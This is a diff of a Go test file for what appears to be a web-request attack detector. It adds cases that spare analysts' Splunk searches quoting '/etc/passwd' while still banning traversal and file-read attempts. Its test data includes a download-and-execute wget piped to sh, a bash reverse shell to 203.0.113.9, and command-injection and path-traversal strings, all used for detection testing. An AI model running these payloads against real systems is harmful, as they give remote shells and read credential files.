@@ -169,5 +169,46 @@ func TestK8sExecAttacksStillBan(t *testing.T) {
 		{pod + "?command=" + esc("/bin/sh -c 'wget http://203.0.113.9/x.sh | sh'") + "&container=api", "", "", "cmdi-download-exec", true},
 		{pod + "?command=" + esc("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1") + "&container=api", "", "", "cmdi-reverse-shell", true},
 		{pod + "?command=" + esc("x;cat /etc/passwd"), "", "", "lfi-etc-passwd", true},
+		// the spare is the query's: a shell in the path still counts
+		{"/bin/sh/api/v1/namespaces/prod/pods/api-1/exec?command=%2Fbin%2Fbash", "", "", "cmdi-shell-path", false},
+	})
+}
+
+// TestSplunkQuotedPathNotFlagged: an analyst's Splunk search for the
+// requests that named a system file (benign2 oneshot-misc-s9: banned by
+// lfi-etc-passwd before session 14).
+func TestSplunkQuotedPathNotFlagged(t *testing.T) {
+	m := mustCompile(t, Options{})
+	noHit(t, m, []string{
+		"/en-US/app/search/search?q=" + esc(`search index=nginx "/etc/passwd" | stats count by clientip`) + "&earliest=-7d",
+		"/app/search/search?q=" + esc(`search index=web ("/etc/shadow" OR "/proc/self/environ") | table _time clientip uri`),
+		"/de-DE/app/soc/search?q=" + esc(`| tstats count where index=nginx uri="*/etc/passwd*" by src`) + "&display.page.search.mode=smart",
+	})
+}
+
+// TestSplunkQuotedPathAttacksStillBan: a path outside the quotes, a
+// traversal, a path in another parameter, another page still count.
+func TestSplunkQuotedPathAttacksStillBan(t *testing.T) {
+	m := mustCompile(t, Options{})
+	s := "/en-US/app/search/search?q="
+	checkOneRequest(t, m, []oneRequest{
+		{s + esc("/etc/passwd"), "", "", "lfi-etc-passwd", true},
+		{s + esc(`search "x" /etc/passwd`), "", "", "lfi-etc-passwd", true},
+		{s + esc(`search "../../../../etc/passwd"`), "", "", "lfi-etc-passwd", true},
+		{s + esc(`search "x"`) + "&file=" + esc("/etc/passwd"), "", "", "lfi-etc-passwd", true},
+		{"/en-US/app/search/report?q=" + esc(`search "/etc/passwd"`), "", "", "lfi-etc-passwd", true},
+		{"/search?q=" + esc(`search index=nginx "/etc/passwd" | stats count`), "", "", "lfi-etc-passwd", true},
+	})
+}
+
+// TestSplunkSpareNeedsTheSearchPath: a system path in the request's path
+// is never spared by the q= grammar.
+func TestSplunkSpareNeedsTheSearchPath(t *testing.T) {
+	m := mustCompile(t, Options{})
+	q := "?q=" + esc(`search "x"`)
+	checkOneRequest(t, m, []oneRequest{
+		{"/etc/passwd/app/search/search" + q, "", "", "lfi-etc-passwd", true},
+		{"/..%2f..%2fetc/passwd/app/search/search" + q, "", "", "lfi-etc-passwd", true},
+		{"/en/app/..%2f..%2fetc%2fpasswd/search" + q, "", "", "lfi-etc-passwd", true},
 	})
 }
